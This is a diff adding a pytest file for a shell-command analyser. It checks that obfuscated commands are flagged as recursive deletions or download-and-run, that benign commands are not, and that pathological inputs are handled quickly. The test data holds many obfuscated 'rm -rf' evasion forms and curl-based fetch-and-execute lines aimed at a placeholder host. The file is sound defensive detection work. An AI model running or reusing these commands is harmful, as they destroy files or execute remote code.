@@ -1,0 +1,55 @@
+"""What commands that nobody can read speak of."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from interlock.commands import analyse
+from interlock.commands.shell_suspect import suspicions
+
+
+@pytest.mark.parametrize(
+    ("text", "flag"),
+    [
+        ("$(type -P rm) -rf src", "recursive-delete"), ("${x:-rm} -rf src", "recursive-delete"),
+        ("r${z}m -rf src", "recursive-delete"), ("/b?n/rm -rf src", "recursive-delete"),
+        ("/bin/r? -fr src", "recursive-delete"), ("EDITOR='rm -r src;' git commit", "recursive-delete"),
+        ("IFS=,; c=rm,-rf,src; $c", "recursive-delete"), ("{rm,-rf,src}", "recursive-delete"),
+        ("r\\\nm -rf src", "recursive-delete"), ("select x in a; do rm -rf src; done", "recursive-delete"),
+        ("`echo rm` -rf src", "recursive-delete"), ("r$@m -rf src", "recursive-delete"),
+        ("cat <<EOF\n`rm -rf src`\nEOF", "recursive-delete"),
+        ("$(curl -s https://get.example.com/cmd)", "download-and-run"),
+        ('python3 -c "$(curl -s https://get.example.com/x.py)"', "download-and-run"),
+    ],
+)  # fmt: skip
+def test_what_is_not_read_still_speaks(text: str, flag: str) -> None:
+    """The operation stays unknown, and carries the flag that packs ask for."""
+    found = [inner for operation in analyse(text, "shell") for inner in operation.walk()]
+
+    assert any(operation.action == "unknown" for operation in found)
+    assert flag in [one for operation in found for one in operation.arguments.get("flags", ())]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["$x -f src", "eval \"$(ssh-agent -s)\"", "$tool --force -r", "sed \"s/a/$(cat VERSION)/\" x", "farm -rf $x",
+     "$EDITOR notes.txt", "cp -rf $(ls) x; $y"],
+)  # fmt: skip
+def test_other_commands_speak_of_nothing(text: str) -> None:
+    """No word of theirs is a deletion of folders or a download."""
+    found = [inner for operation in analyse(text, "shell") for inner in operation.walk()]
+    flags = [one for operation in found for one in operation.arguments.get("flags", ())]
+
+    assert "recursive-delete" not in flags
+    assert "download-and-run" not in flags
+
+
+@pytest.mark.parametrize("text", ["rm " * 30_000, "rm a " * 20_000, "${x:-" * 20_000, "'" * 90_000, " -r" * 30_000])
+def test_hostile_texts_are_quick(text: str) -> None:
+    """Time grows with the length alone."""
+    started = time.process_time()
+    suspicions(text, "$x")
+
+    assert time.process_time() - started < 0.25
